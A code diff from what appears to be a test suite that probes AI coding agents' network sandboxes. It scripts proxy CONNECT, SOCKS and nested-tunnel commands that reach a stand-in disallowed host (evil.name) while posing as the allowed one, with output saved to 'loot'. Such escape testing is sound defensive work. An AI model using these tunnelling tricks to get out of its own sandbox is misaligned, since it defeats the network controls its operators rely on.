@@ -1,5 +1,6 @@
-// Techniques 54, 55, 57: what a proxy can be told. Through the proxy a target sets, else through one that was made up; where
-// there is no boundary there is none. The name is the allowed one with something done to it that leads elsewhere.
+// Techniques 54, 55, 57: what a proxy can be told. Through the proxy a target sets, else said to the allowed host as if it
+// were one, so that nothing else is refused. Where there is no boundary there is none. The name is the allowed one with
+// something done to it that leads elsewhere.
 
 import { readFileSync } from "node:fs";
 import type { Logged } from "../../../journeys/stage.ts";
@@ -50,8 +51,9 @@ const base = {
   notHere: ({ target }: { target: string }) => (target.startsWith("codex") ? codex : undefined),
   files: () => ({ "proxy.py": proxy }),
   landed: away,
-  entry: ({ kind, verdict }: Logged) =>
-    ["connection", "refusal", "request", "name"].includes(kind) && verdict === "refuse",
+  // what is said in the tunnel names another host, and is refused wherever the tunnel leads
+  entry: ({ kind, verdict, rule }: Logged) =>
+    ["connection", "refusal"].includes(kind) && verdict === "refuse" && rule !== "gateway:disagreement",
 } as const;
 
 const connects = targets.map(
@@ -62,7 +64,8 @@ const connects = targets.map(
     title: `CONNECT to ${title}`,
     source: "srt SOCKS5 NUL, OpenShell #1552",
     ...(at === 0 ? { decisive: true } : {}),
-    inside: () => `timeout 8 python3 proxy.py connect '${Buffer.from(target).toString("base64")}' > loot 2>&1`,
+    inside: () =>
+      `timeout 8 python3 proxy.py connect '${Buffer.from(target).toString("base64")}' ${host}:80 > loot 2>&1`,
   }),
 );
 
@@ -73,7 +76,7 @@ const socks = (["4", "4a", "5", "5-bind", "5-udp", "5-half"] as const).map(
     technique: 55,
     title: `SOCKS ${kind}`,
     source: "list",
-    inside: () => `timeout 8 python3 proxy.py socks${kind} ${evil.name} > loot 2>&1`,
+    inside: () => `timeout 8 python3 proxy.py socks${kind} ${evil.name} ${host}:80 > loot 2>&1`,
   }),
 );
 
@@ -83,7 +86,7 @@ const relay: Probe = {
   technique: 57,
   title: "CONNECT within CONNECT to another host",
   source: "claude-code #87381",
-  inside: () => `timeout 8 python3 proxy.py relay ${host} ${evil.name} > loot 2>&1`,
+  inside: () => `timeout 8 python3 proxy.py relay ${host} ${evil.name} ${host}:80 > loot 2>&1`,
 };
 
 export const proxies: readonly Probe[] = [...connects, ...socks, relay];
